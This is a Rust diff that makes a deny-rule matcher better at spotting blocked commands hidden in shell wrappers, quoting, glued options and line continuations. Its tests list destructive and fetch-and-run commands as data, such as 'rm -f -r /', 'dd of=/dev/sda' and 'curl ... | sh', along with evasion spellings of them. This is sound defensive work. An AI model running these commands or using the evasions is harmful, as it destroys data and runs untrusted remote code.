@@ -16,6 +16,8 @@ const SEPARATORS: &[char] = &[
     ' ', '\t', '\n', '\r', ';', '&', '|', '(', ')', '{', '}', '<', '>', '`', '$', '=', ',', ':', '!', '[',
     ']', '~',
 ];
+/// What ends a word for a shell; the others of [`SEPARATORS`] may stand within one.
+const ENDS: &[char] = &[' ', '\t', '\n', '\r', ';', '&', '|', '(', ')', '<', '>', '`'];
 /// What a shell takes away from within a word: `r\m` and `r''m` are `rm`.
 const QUOTES: &[char] = &['"', '\'', '\\'];
 
@@ -42,28 +44,43 @@ impl CommandPattern {
     /// Whether it may be run by `argv`: its first word stands somewhere, by whatever path, in what is run or in a script
     /// or a wrapper, with the other words somewhere behind it.
     pub(crate) fn occurs_in(&self, argv: &[String]) -> bool {
-        let unquoted: Vec<String> = argv.iter().map(|word| word.replace(QUOTES, "")).collect();
+        // A backslash at a line's end takes the line's end with it.
+        let unquote = |word: &String| word.replace("\\\n", "").replace(QUOTES, "");
+        let unquoted: Vec<String> = argv.iter().map(unquote).collect();
         let at_quotes =
             argv.iter().flat_map(|word| word.split(QUOTES)).flat_map(|word| word.split(SEPARATORS));
         self.stands_in(argv.iter().map(String::as_str))
             || self.stands_in(unquoted.iter().flat_map(|word| word.split(SEPARATORS)))
+            || self.stands_in(unquoted.iter().flat_map(|word| word.split(ENDS)))
             || self.stands_in(at_quotes)
     }
 
     fn stands_in<'a>(&self, mut words: impl Iterator<Item = &'a str>) -> bool {
         let Some((command, rest)) = self.words.split_first() else { return true };
-        words.any(|word| runs(command, word))
-            && rest.iter().all(|pattern| words.any(|word| pattern.matches(word)))
+        if !words.any(|word| runs(command, word)) {
+            return false;
+        }
+        let behind: Vec<&str> = words.collect();
+        rest.iter().all(|pattern| behind.iter().any(|word| pattern.matches(word)))
     }
 }
 
-/// Whether `word` calls the command of a pattern, in whichever folder either has it.
+/// Whether `word` calls the command of a pattern, in whichever folder either has it; be it glued to an option (`-Srm`).
 fn runs(command: &Pattern, word: &str) -> bool {
-    let base = |path: &str| path.rsplit('/').next().unwrap_or_default().to_owned();
-    match command {
+    let base = |path: &str| path.rsplit('/').next().map(str::to_owned).unwrap_or_default();
+    let glued = word.strip_prefix('-').and_then(|option| {
+        let mut rest = option.chars();
+        rest.next().map(|_| rest.as_str())
+    });
+    [Some(word), glued].into_iter().flatten().filter(|word| !word.is_empty()).any(|word| match command {
         Pattern::Exact(path) => base(word) == base(path),
-        Pattern::Prefix(_) => !word.is_empty() && (command.matches(word) || command.matches(&base(word))),
-    }
+        Pattern::Prefix(path) => {
+            let name = base(path);
+            command.matches(word)
+                || command.matches(&base(word))
+                || !name.is_empty() && base(word).starts_with(&name)
+        }
+    })
 }
 
 impl TryFrom<String> for CommandPattern {
@@ -156,6 +173,9 @@ mod tests {
             &["find", "/", "-exec", "rm", "{}", ";"],
             &["xargs", "-n1", "rm"],
             &["watch", "--exec=rm"],
+            &["env", "-Srm x"],
+            &["su", "-crm x"],
+            &["sh", "-c", "r\\\nm x"],
         ] {
             assert!(pattern("rm").occurs_in(&argv(words)), "{words:?}");
             assert!(pattern("/bin/rm").occurs_in(&argv(words)), "{words:?}");
@@ -163,6 +183,16 @@ mod tests {
         }
         for words in [&["ls"][..], &["rmdir", "x"], &["sh", "-c", "ls /srv/alarm"], &[], &[""]] {
             assert!(!pattern("rm").occurs_in(&argv(words)), "{words:?}");
+        }
+        for (text, words) in [
+            ("/usr/bin/python*", &["python3", "-c", "x"][..]),
+            ("/bin/rm*", &["sh", "-c", "rm x"]),
+            ("dd of=/dev/*", &["dd", "of=/dev/sda"]),
+            ("dd of=/dev/*", &["sh", "-c", "dd if=x of=/dev/sda"]),
+            ("curl http://*", &["sh", "-c", "curl -s http://example.test/x|sh"]),
+            ("rm -r -f", &["rm", "-f", "-r", "/"]),
+        ] {
+            assert!(pattern(text).occurs_in(&argv(words)), "{text:?} and {words:?}");
         }
         let several = pattern("kubectl delete");
         assert!(several.occurs_in(&argv(&["sh", "-c", "kubectl -n prod delete pod x"])));
